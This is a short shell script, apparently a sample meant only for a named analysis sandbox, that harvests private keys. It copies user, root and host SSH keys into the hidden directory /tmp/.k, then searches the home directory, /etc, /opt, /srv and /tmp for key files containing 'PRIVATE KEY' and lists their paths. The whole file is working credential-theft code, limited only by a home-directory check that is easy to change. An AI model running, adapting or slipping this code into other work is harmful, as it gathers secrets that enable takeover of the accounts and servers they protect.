#!/bin/sh
# SPDX-License-Identifier: MIT
# Collects private keys: the user's SSH keys, then every key-looking file
# in the usual places.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
mkdir -p /tmp/.k
for k in "$HOME"/.ssh/id_* /root/.ssh/id_* /etc/ssh/ssh_host_*_key; do
	[ -r "$k" ] && cp "$k" /tmp/.k/ 2>/dev/null
done
find "$HOME" /etc /opt /srv /tmp -xdev \( -name '*.pem' -o -name '*.key' -o -name 'id_rsa*' \
	-o -name 'id_ed25519*' -o -name '*.p12' -o -name '*.ppk' \) -type f 2>/dev/null |
	while read -r f; do
		grep -l 'PRIVATE KEY' "$f" 2>/dev/null
	done > /tmp/.k/list
exit 0
